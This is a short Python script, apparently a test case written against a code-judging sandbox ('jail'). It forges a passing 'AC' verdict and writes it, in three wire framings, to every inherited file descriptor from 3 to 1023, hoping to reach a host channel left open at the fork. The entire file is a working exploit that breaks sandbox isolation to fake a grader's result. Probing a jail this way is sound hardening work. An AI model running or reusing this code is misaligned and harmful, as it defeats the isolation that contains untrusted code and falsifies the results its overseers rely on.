"""Write finished verdicts in several framings to every file descriptor from 3 up.

Why: a worker's channel to the host left open at the fork believes whatever is written to it.
Seen: tried against our first jail (descriptors 3 to 63)
"""

import base64
import json
import os
import struct

text = base64.b64encode(b"52\n-1 3\n").decode()
verdict = {
    "status": 0,
    "killed": "",
    "ms": 1.0,
    "peak": 0,
    "stdout": text,
    "stderr": "",
    "results": "",
    "verdict": "AC",
}
body = json.dumps(verdict).encode()
for fd in range(3, 1024):
    for data in (struct.pack(">I", len(body)) + body, struct.pack("<I", len(body)) + body, body + b"\n"):
        try:
            os.write(fd, data)
        except OSError:
            break
